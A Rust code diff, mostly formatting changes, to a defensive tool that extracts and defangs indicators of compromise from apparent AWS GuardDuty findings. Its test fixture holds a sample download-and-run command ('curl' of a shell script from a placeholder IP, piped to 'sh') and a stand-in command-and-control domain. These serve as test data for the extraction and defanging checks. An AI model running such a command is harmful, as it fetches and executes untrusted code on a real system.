@@ -125,7 +125,11 @@ impl Indicator {
             Kind::Address | Kind::Domain => self.value.replace('.', "[.]").replace(':', "[:]"),
             Kind::Url => match self.value.split_once("://") {
                 Some((scheme, rest)) => {
-                    format!("{}://{}", scheme.replace("http", "hxxp").replace("ftp", "fxp"), rest.replace('.', "[.]"))
+                    format!(
+                        "{}://{}",
+                        scheme.replace("http", "hxxp").replace("ftp", "fxp"),
+                        rest.replace('.', "[.]")
+                    )
                 }
                 None => self.value.replace('.', "[.]"),
             },
@@ -142,7 +146,8 @@ pub fn indicators<'r>(records: impl IntoIterator<Item = &'r Record>) -> Vec<Indi
         let own = finding.lens().account_id().map(|id| id.value.into_owned());
         let id = finding.lens().id().map(|id| id.value.into_owned()).unwrap_or_default();
         let doc = finding.document();
-        for row in doc.rows().filter(|&row| doc.kind(row) == JsonKind::String && doc.embedded(row).is_none()) {
+        for row in doc.rows().filter(|&row| doc.kind(row) == JsonKind::String && doc.embedded(row).is_none())
+        {
             let text = doc.string(row).unwrap_or_default();
             let side = side_of(&finding, row);
             for (kind, value) in values(finding.field(row), &text) {
@@ -188,7 +193,9 @@ fn values(field: Option<MemberId>, text: &str) -> Vec<(Kind, String)> {
     let class = field.and_then(field_class);
     let mut out = Vec::new();
     match class {
-        Some(Class::Hosts) if text.contains('.') => return vec![(Kind::Domain, text.trim_end_matches('.').to_owned())],
+        Some(Class::Hosts) if text.contains('.') => {
+            return vec![(Kind::Domain, text.trim_end_matches('.').to_owned())];
+        }
         Some(Class::Hashes) if is_hash(text) => return vec![(Kind::Hash, text.to_owned())],
         _ => {}
     }
@@ -204,10 +211,17 @@ fn values(field: Option<MemberId>, text: &str) -> Vec<(Kind, String)> {
         }
     }
     // Where a URL names an ARN's bucket or a host, the whole of it is worth having.
-    for at in shape::words(text, |c| !c.is_whitespace() && !matches!(c, '"' | '\'' | '<' | '>' | '|' | '`' | '(' | ')')) {
+    for at in shape::words(text, |c| {
+        !c.is_whitespace() && !matches!(c, '"' | '\'' | '<' | '>' | '|' | '`' | '(' | ')')
+    }) {
         let word = text.get(at).unwrap_or_default();
-        if let Some(start) = ["http://", "https://", "ftp://", "tcp://"].iter().filter_map(|scheme| word.find(scheme)).min() {
-            out.push((Kind::Url, word.get(start..).unwrap_or_default().trim_end_matches(['.', ',', ';']).to_owned()));
+        if let Some(start) =
+            ["http://", "https://", "ftp://", "tcp://"].iter().filter_map(|scheme| word.find(scheme)).min()
+        {
+            out.push((
+                Kind::Url,
+                word.get(start..).unwrap_or_default().trim_end_matches(['.', ',', ';']).to_owned(),
+            ));
         }
     }
     out
@@ -223,9 +237,17 @@ fn side_of(finding: &Finding, row: RowId) -> Side {
     let above = std::iter::successors(Some(row), |&row| doc.parent(row));
     for member in above.filter_map(|row| finding.field(row)).filter_map(MemberId::get) {
         match member.name {
-            "RemoteIpDetails" | "Endpoints" | "DnsRequestAction" | "DomainDetails" | "SourceIps" | "MalwareScanDetails"
-            | "EbsVolumeScanDetails" | "Evidence" => return Side::Remote,
-            "LocalIpDetails" | "NetworkInterfaces" | "Resource" | "Resources" | "Actors" => return Side::Internal,
+            "RemoteIpDetails"
+            | "Endpoints"
+            | "DnsRequestAction"
+            | "DomainDetails"
+            | "SourceIps"
+            | "MalwareScanDetails"
+            | "EbsVolumeScanDetails"
+            | "Evidence" => return Side::Remote,
+            "LocalIpDetails" | "NetworkInterfaces" | "Resource" | "Resources" | "Actors" => {
+                return Side::Internal;
+            }
             _ => {}
         }
     }
@@ -302,14 +324,23 @@ mod tests {
             "context":{"commandLineExample":"sh -c (curl http://192.0.2.14/i.sh||wget x)"}}}}"#;
 
     fn found() -> Vec<Indicator> {
-        indicators(&[Record { dialect: Dialect::Native, envelopes: vec![], text: FINDING.into(), place: Default::default(), context: vec![] }])
+        indicators(&[Record {
+            dialect: Dialect::Native,
+            envelopes: vec![],
+            text: FINDING.into(),
+            place: Default::default(),
+            context: vec![],
+        }])
     }
 
     #[test]
     fn values_are_told_apart_by_kind_and_side() {
         let found = found();
         let has = |kind, side, value: &str| {
-            assert!(found.iter().any(|one| (one.kind, one.side, &*one.value) == (kind, side, value)), "{value}: {found:#?}");
+            assert!(
+                found.iter().any(|one| (one.kind, one.side, &*one.value) == (kind, side, value)),
+                "{value}: {found:#?}"
+            );
         };
         has(Kind::Address, Side::Remote, "198.51.100.9");
         has(Kind::Address, Side::Internal, "10.0.0.1");
@@ -322,14 +353,22 @@ mod tests {
         has(Kind::Arn, Side::Internal, "arn:aws:guardduty:eu-west-1:111122223333:detector/d0/finding/f0");
         assert!(found.iter().any(|one| one.kind == Kind::Hash));
         let address = found.iter().find(|one| one.value == "198.51.100.9").unwrap();
-        assert_eq!(address.read.iter().map(|read| &*read.pointer).collect::<Vec<_>>(), ["/description", "/service/action/networkConnectionAction/remoteIpDetails/ipAddressV4"]);
+        assert_eq!(
+            address.read.iter().map(|read| &*read.pointer).collect::<Vec<_>>(),
+            ["/description", "/service/action/networkConnectionAction/remoteIpDetails/ipAddressV4"]
+        );
         assert!(found.is_sorted_by_key(|one| Side::ALL.iter().position(|side| *side == one.side)));
     }
 
     #[test]
     fn defanged_values_lead_nowhere() {
         let text = list(&found(), true, Lang::En);
-        assert!(text.contains("198[.]51[.]100[.]9\n") && text.contains("hxxp://192[.]0[.]2[.]14/i[.]sh\n") && text.contains("c2[.]example[.]net\n"), "{text}");
+        assert!(
+            text.contains("198[.]51[.]100[.]9\n")
+                && text.contains("hxxp://192[.]0[.]2[.]14/i[.]sh\n")
+                && text.contains("c2[.]example[.]net\n"),
+            "{text}"
+        );
         assert!(!text.contains("http://"));
         assert!(list(&found(), false, Lang::Ja).contains("# ドメイン (リモート側)\nc2.example.net\n"));
     }
